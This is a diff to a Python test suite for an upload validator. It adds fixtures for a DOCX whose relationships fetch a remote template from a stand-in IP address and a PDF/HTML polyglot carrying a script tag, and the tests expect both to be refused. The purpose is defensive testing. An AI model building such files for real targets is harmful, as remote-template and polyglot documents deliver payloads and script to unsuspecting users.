@@ -57,6 +57,17 @@ def zipped(*names: str) -> bytes:
     return buf.getvalue()
 
 
+def linked_docx() -> bytes:
+    """A DOCX whose settings fetch a remote template on opening."""
+    rel = ('<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/'
+           '2006/relationships/attachedTemplate" Target="http://203.0.113.9/t.dotm" TargetMode="External"/>'
+           "</Relationships>")  # fmt: skip
+    buf = io.BytesIO(zipped("[Content_Types].xml", "word/document.xml"))
+    with zipfile.ZipFile(buf, "a") as z:
+        z.writestr("word/_rels/settings.xml.rels", rel)
+    return buf.getvalue()
+
+
 def bearer(role: str, code: str) -> dict[str, str]:
     token = issue(SECRET.encode(), f"{role}@{code}", role, code, timedelta(hours=1), datetime.now(UTC))
     return {"authorization": f"Bearer {token}"}
@@ -158,6 +169,8 @@ async def submitted_elsewhere(uow_factory: UowFactory) -> str:
         ("big.pdf", PDF + b"0" * 5000, "document_too_large"),
         ("huge.pdf", PDF + b"0" * 200_000, "document_too_large"),  # refused by its declared length, unread
         ("archive.docx", zipped("readme.txt"), "document_type_not_allowed"),
+        ("polyglot.pdf", PDF[:9] + b"<html><script>alert(1)</script></html>\n" + PDF[9:], "pdf_carries_html"),
+        ("template.docx", linked_docx(), "docx_external_relationship"),
     ],
 )
 async def test_anything_else_is_refused_with_its_reason_and_nothing_is_stored(
